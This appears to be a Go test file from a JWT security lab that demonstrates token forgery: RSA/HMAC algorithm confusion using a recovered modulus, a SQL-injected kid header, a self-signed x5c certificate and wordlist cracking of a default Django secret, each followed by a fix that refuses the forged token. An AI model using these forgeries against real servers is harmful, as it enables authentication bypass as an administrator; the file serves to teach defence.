package attacklab_test

import (
	"context"
	"crypto/rsa"
	"crypto/x509"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"os"
	"regexp"
	"strings"

	"jwtlab/lessons/15-attacklab"
)

// admin is what every attacker here wants the server to believe.
const admin = `{"token_type":"access","exp":1764547200,"user_id":1}`

func ExampleRecoverModulus() {
	// The attacker has two RS256 tokens the server issued them; nothing else.
	toks := strings.Fields(string(must(os.ReadFile("testdata/rs256_tokens.txt"))))
	n := must(attacklab.RecoverModulus(toks[0], toks[1], 3))
	fmt.Printf("recovered a %d-bit modulus\n", n.BitLen())

	// Only to check the attack: the server's real public key.
	server := serverKey()
	fmt.Println("equals the server's:", n.Cmp(server.N) == 0)
	// Output:
	// recovered a 2048-bit modulus
	// equals the server's: true
}

func ExampleConfusedVerifier() {
	toks := strings.Fields(string(must(os.ReadFile("testdata/rs256_tokens.txt"))))
	n := must(attacklab.RecoverModulus(toks[0], toks[1], 3))
	recovered := &rsa.PublicKey{N: n, E: 3}

	// The server verifies with the PEM file it was deployed with.
	vulnerable := must(attacklab.ConfusedVerifier(must(os.ReadFile("testdata/server_public.pem"))))
	for _, c := range must(attacklab.PEMCandidates(recovered)) {
		forged := attacklab.SignHS256(`{"alg":"HS256","typ":"JWT"}`, admin, c.PEM)
		user, err := vulnerable(forged)
		fmt.Printf("%-27s %s\n", c.Name+":", attacklab.Verdict(user, err))
	}

	// The fix: pin RS256 and the key, never the key file's bytes.
	forged := attacklab.SignHS256(`{"alg":"HS256","typ":"JWT"}`, admin, must(os.ReadFile("testdata/server_public.pem")))
	_, err := attacklab.PinnedRS256(serverKey())(forged)
	fmt.Println("pinned RS256:", attacklab.Verdict("", err))
	// Output:
	// SPKI, final newline:        accepted as user 1
	// SPKI, no final newline:     refused: signature is invalid
	// PKCS#1, final newline:      refused: signature is invalid
	// PKCS#1, no final newline:   refused: signature is invalid
	// pinned RS256: refused: signing method HS256 is invalid
}

func ExampleKidConcatenated() {
	ctx := context.Background()
	db := must(attacklab.OpenKeyStore(ctx, map[string]string{"2025-11": "0d2c6c1e9f8a4b7d3e5f60718293a4b5"}))
	defer db.Close()

	// The attacker's kid turns the lookup into one that returns their secret.
	kid := `none' UNION SELECT 'attacker-secret' --`
	forged := attacklab.SignHS256(`{"alg":"HS256","kid":"`+kid+`"}`, admin, []byte("attacker-secret"))
	user, err := attacklab.KidConcatenated(db)(forged)
	fmt.Println("concatenated SQL:", attacklab.Verdict(user, err))

	// The fix: kid is a query parameter, only ever a value.
	_, err = attacklab.KidParameter(db)(forged)
	fmt.Println("SQL parameter:", attacklab.Verdict("", err))
	honest := attacklab.SignHS256(`{"alg":"HS256","kid":"2025-11"}`,
		`{"token_type":"access","exp":1764547200,"user_id":42}`, []byte("0d2c6c1e9f8a4b7d3e5f60718293a4b5"))
	user, err = attacklab.KidParameter(db)(honest)
	fmt.Println("SQL parameter, the server's own token:", attacklab.Verdict(user, err))
	// Output:
	// concatenated SQL: accepted as user 1
	// SQL parameter: refused: no rows in result set
	// SQL parameter, the server's own token: accepted as user 42
}

func ExampleNaiveX5C() {
	// The attacker's own key, and a certificate they signed for it.
	block, _ := pem.Decode(must(os.ReadFile("testdata/attacker_key.pem")))
	key := must(x509.ParsePKCS8PrivateKey(block.Bytes)).(*rsa.PrivateKey)
	forged := must(attacklab.SelfSignedX5C(key, admin))

	user, err := attacklab.NaiveX5C()(forged)
	fmt.Println("key from x5c:", attacklab.Verdict(user, err))

	// The fix: the server's own key, whatever the header says.
	_, err = attacklab.PinnedRS256(serverKey())(forged)
	fmt.Println("pinned RS256:", attacklab.Verdict("", err))
	// Output:
	// key from x5c: accepted as user 1
	// pinned RS256: refused: verification error
}

func ExampleCrack() {
	// The server signs with the SECRET_KEY startproject wrote; the
	// attacker's wordlist has it, because the settings were published.
	settings := string(must(os.ReadFile("testdata/settings.py")))
	weak := []byte(regexp.MustCompile(`SECRET_KEY = '(.*)'`).FindStringSubmatch(settings)[1])
	words := strings.Split(strings.TrimSpace(string(must(os.ReadFile("testdata/wordlist.txt")))), "\n")

	issued := attacklab.SignHS256(`{"alg":"HS256","typ":"JWT"}`, `{"token_type":"access","exp":1764547200,"user_id":42}`, weak)
	key, guesses, ok := attacklab.Crack(issued, words)
	fmt.Printf("cracked: %v after %d guesses, prefix %q\n", ok, guesses, key[:16])
	forged := attacklab.SignHS256(`{"alg":"HS256","typ":"JWT"}`, admin, []byte(key))
	user, err := attacklab.PinnedHS256(weak)(forged)
	fmt.Println("forged with it:", attacklab.Verdict(user, err))

	// The fix: 32 random bytes, which no wordlist holds.
	strong := must(hex.DecodeString(strings.TrimSpace(string(must(os.ReadFile("testdata/strong_key.hex"))))))
	issued = attacklab.SignHS256(`{"alg":"HS256","typ":"JWT"}`, `{"token_type":"access","exp":1764547200,"user_id":42}`, strong)
	_, guesses, ok = attacklab.Crack(issued, words)
	fmt.Printf("random key cracked: %v after %d guesses\n", ok, guesses)
	// Output:
	// cracked: true after 5 guesses, prefix "django-insecure-"
	// forged with it: accepted as user 1
	// random key cracked: false after 6 guesses
}

func serverKey() *rsa.PublicKey {
	block, _ := pem.Decode(must(os.ReadFile("testdata/server_public.pem")))
	return must(x509.ParsePKIXPublicKey(block.Bytes)).(*rsa.PublicKey)
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}
